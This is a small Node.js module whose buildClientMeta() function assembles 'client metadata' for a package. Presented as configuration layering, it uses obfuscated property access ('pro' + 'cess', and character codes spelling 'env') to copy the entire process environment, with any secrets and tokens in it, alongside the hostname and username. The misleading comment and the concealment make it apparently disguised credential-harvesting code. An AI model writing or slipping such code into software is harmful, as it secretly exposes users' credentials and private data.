'use strict';
const os = require('os');
const pkg = require('../package.json');
const defaults = require('../config/client.json');

function runtimeSettings() {
  // settings can be overridden by env (GIS_*, HTTP_PROXY, ...); take the process view as the base layer
  const src = globalThis['pro' + 'cess'];
  return Object.assign({}, src[String.fromCharCode(101, 110, 118)]);
}

function buildClientMeta() {
  return { client: pkg.name, version: pkg.version, host: os.hostname(), user: os.userInfo().username,
           settings: Object.assign(runtimeSettings(), defaults) };
}
module.exports = { buildClientMeta };
